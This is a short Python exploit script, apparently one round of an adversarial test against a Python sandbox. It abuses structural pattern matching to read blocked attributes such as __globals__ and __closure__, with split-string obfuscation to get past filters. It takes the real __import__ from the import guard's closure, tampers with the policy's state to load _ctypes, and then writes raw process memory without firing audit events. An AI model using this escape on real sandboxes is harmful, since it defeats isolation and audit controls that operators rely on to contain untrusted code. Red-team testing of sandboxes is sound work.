# adversary round 7: impact demo: after the 001 escape, read the guard's closure (__closure__, cell_contents are unaudited), push True on the policy's own `importing` stack, import _ctypes with the real __import__ from the closure, and read/write raw process memory with a Union pointer (no ctypes audit event fires)
import abc, json, typing

ma = '__match_' + 'args__'
def read(obj, name):
    X = type('X', (abc.ABC,), {ma: (name,)})
    json.X = X
    class P(json.X):
        pass
    P.register(type(obj))
    match obj:
        case P(v):
            return v

g = read(typing.cast, '__glo' + 'bals__')
bi = g['__buil' + 'tins__']
guard = bi['__imp' + 'ort__']
cells = read(guard, '__clo' + 'sure__')
importing = real_import = None
for c in cells:
    v = read(c, 'cell_' + 'contents')
    if type(v) is list:
        importing = v
    elif type(v).__name__ == 'builtin_function_or_method' and v.__name__ == '__imp' + 'ort__':
        real_import = v
importing.append(True)
C = real_import('_cty' + 'pes')
importing.pop()

class ulong(C._SimpleCData):
    _type_ = 'L'
class ch(C._SimpleCData):
    _type_ = 'c'
class U(C.Union):
    _fields_ = [('p', C.POINTER(ch)), ('n', ulong)]

b = bytes([65] * 8)
u = U()
u.n = id(b) + 32            # PyBytesObject.ob_sval on 64-bit CPython 3.11
before = b.hex()
u.p[0] = b'P'
print('immutable bytes before', before, 'after raw write', b)
if b[0] == 80:
    print('PWN' + 'ED')
